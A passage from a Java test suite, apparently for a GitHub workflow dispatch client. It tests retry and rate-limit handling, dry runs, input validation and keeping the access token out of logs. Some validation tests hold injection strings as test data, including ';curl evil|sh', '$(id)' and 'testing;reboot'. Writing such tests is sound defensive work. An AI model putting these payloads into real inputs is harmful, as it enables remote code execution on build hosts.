        List<BuildCompletion> failing = new CopyOnWriteArrayList<>();
        now = now.plus(Duration.ofMinutes(30));
        Dispatch broken = dispatch().tellingTo(c -> {
            failing.add(c);
            throw new IllegalStateException("bus unreachable");
        });

        Dispatch.Result result = broken.dispatch(build(), IMAGE, false, "c");
        assertEquals(
                Action.IN_FLIGHT, result.decision().action(), result.decision().reason());
        github.verify(1, postRequestedFor(urlPathEqualTo(DISPATCHES)));

        now = now.plus(Duration.ofMinutes(30));
        Dispatch.Result next = dispatch().dispatch(build(), IMAGE, false, "c");
        assertEquals(5151L, next.decision().dispatch().runId());
        assertEquals(1, failing.size());
        assertEquals(1, told.size(), "told by the next check, once");
        assertEquals(5150L, told.get(0).runId());
    }

    @Test
    void aRateLimitThatOutlastsTheRetryBudgetIsDefiniteAndTheNextRunDispatches() {
        // A wait GitHub asks for that the 30 s budget cannot cover: GitHub provably did nothing.
        github.stubFor(post(urlPathEqualTo(DISPATCHES))
                .inScenario("limit")
                .whenScenarioStateIs(Scenario.STARTED)
                .willReturn(aResponse().withStatus(429).withHeader("retry-after", "40"))
                .willSetStateTo("ok"));
        github.stubFor(post(urlPathEqualTo(DISPATCHES))
                .inScenario("limit")
                .whenScenarioStateIs("ok")
                .willReturn(aResponse().withStatus(204)));
        Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "c");
        assertEquals(DispatchStatus.FAILED, result.decision().dispatch().status());
        assertTrue(
                result.error().orElseThrow().contains("rate limit"),
                result.error().get());
        assertTrue(new FileLedger(state).find(key()).isEmpty(), "a definite failure releases the claim");

        now = now.plus(Duration.ofMinutes(30));
        assertEquals(
                DispatchStatus.DISPATCHED,
                dispatch()
                        .dispatch(build(), IMAGE, false, "c")
                        .decision()
                        .dispatch()
                        .status());
    }

    @Test
    void aRefusedConnectionAfterEveryRetryIsDefinite() throws Exception {
        int closed;
        try (var socket = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            closed = socket.getLocalPort();
        }
        // A budget shorter than the backoff: the retries give up on the budget, the request never left.
        RetryPolicy policy = new RetryPolicy(
                5, Duration.ofSeconds(20), Duration.ofSeconds(20), Duration.ofSeconds(30), Duration.ofSeconds(30));
        Http http = new RetryingHttp(
                new UrlConnectionHttp(new Http.Limits(Duration.ofSeconds(2), Duration.ofSeconds(2), 1 << 20)),
                policy,
                Clock.systemUTC(),
                waits::add);
        GitHubApi api = new GitHubApi(
                http, URI.create("http://127.0.0.1:" + closed + "/api/v3"), () -> Optional.of(new Secret(TOKEN)));

        var outcome = new WorkflowDispatchClient(api)
                .dispatch(REPO, "build.yaml", "main", WorkflowInputs.of(build(), IMAGE, "stable"));

        assertTrue(outcome instanceof DispatchOutcome.Definite, outcome.toString());
    }

    @Test
    void dryRunWritesNothingAndCallsNoWriteApi() throws Exception {
        Dispatch.Result result = dispatch().dispatch(build(), IMAGE, true, "c");
        assertEquals(DispatchStatus.DRY_RUN, result.decision().dispatch().status());
        github.verify(0, postRequestedFor(urlPathEqualTo(DISPATCHES)));
        assertFalse(Files.exists(state.resolve(FileLedger.FILE_NAME)));
    }

    @Test
    void anInputThatFailsItsPatternIsAnErrorAndNeverSent() {
        Decision hostile = new Decision(
                "testing",
                "43.20260316.2.1",
                "2.3.7",
                Action.BUILD,
                "r",
                List.of(new ArchResult(
                        Arch.X86_64,
                        "6.19.6-200.fc43.x86_64;curl evil|sh",
                        Compatibility.UNKNOWN,
                        "4.18-7.0",
                        null,
                        false)),
                DispatchResult.NONE,
                List.of());
        Dispatch.Result result = dispatch().dispatch(hostile, IMAGE, false, "c");
        assertEquals(Action.ERROR, result.decision().action());
        assertTrue(
                result.error().orElseThrow().contains("kernel_versions"),
                result.error().get());
        github.verify(0, postRequestedFor(urlPathEqualTo(DISPATCHES)));
        assertTrue(new FileLedger(state).find(key()).isEmpty());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "GHCR.io/acme/custom-coreos",
                "ghcr.io/acme/custom-coreos:stable",
                "acme/custom-coreos",
                "ghcr.io/acme/custom-coreos\nx",
                "ghcr.io/acme/Custom-CoreOS",
                "ghcr.io/acme/custom-coreos$(id)"
            })
    void anImageInputThatIsNotARegistryAndRepositoryIsAnErrorAndNeverSent(String image) {
        Dispatch.Result result = dispatch().dispatch(build(), image, false, "c");

        assertEquals(Action.ERROR, result.decision().action());
        assertTrue(
                result.error().orElseThrow().contains("workflow input image"),
                result.error().get());
        github.verify(0, postRequestedFor(urlPathEqualTo(DISPATCHES)));
    }

    @ParameterizedTest
    @ValueSource(strings = {"-testing", "testing zfs", "testing;reboot", ".testing", ""})
    void aTagInputThatIsNotATagIsAnErrorAndNeverSent(String tag) {
        tagForStream = stream -> tag;

        Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "c");

        assertEquals(Action.ERROR, result.decision().action());
        assertTrue(
                result.error().orElseThrow().contains("workflow input tag"),
                result.error().get());
        github.verify(0, postRequestedFor(urlPathEqualTo(DISPATCHES)));
        assertTrue(new FileLedger(state).find(key()).isEmpty());
    }

    @Test
    void theTokenAppearsInNoMessageAndNoLogLine() {
        PrintStream original = System.err;
        ByteArrayOutputStream captured = new ByteArrayOutputStream();
        System.setErr(new PrintStream(captured, true));
        StringBuilder messages = new StringBuilder();
        try {
            for (int status : new int[] {401, 403, 404, 422, 500}) {
                github.resetAll();
                github.stubFor(
                        get(urlPathEqualTo(RUNS)).willReturn(okJson("{\"total_count\":0,\"workflow_runs\":[]}")));
                // A hostile or broken server that echoes the Authorization header back.
                github.stubFor(post(urlPathEqualTo(DISPATCHES))
                        .willReturn(aResponse()
                                .withStatus(status)
                                .withHeader("Content-Type", "application/json")
                                .withBody("{\"message\":\"Bad credentials: Bearer " + TOKEN + "\",\"status\":\""
                                        + status + "\"}")));
                Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "c");
                messages.append(result.error().orElse(""))
                        .append(result.decision().reason());
                now = now.plus(Duration.ofHours(4));
            }
        } finally {
            System.setErr(original);
        }
        assertFalse(messages.toString().contains(TOKEN), messages.toString());
        assertFalse(messages.toString().contains(TOKEN.substring(0, 12)), "not even a prefix of the token");
        assertFalse(captured.toString().contains(TOKEN.substring(0, 12)), captured.toString());
    }
}
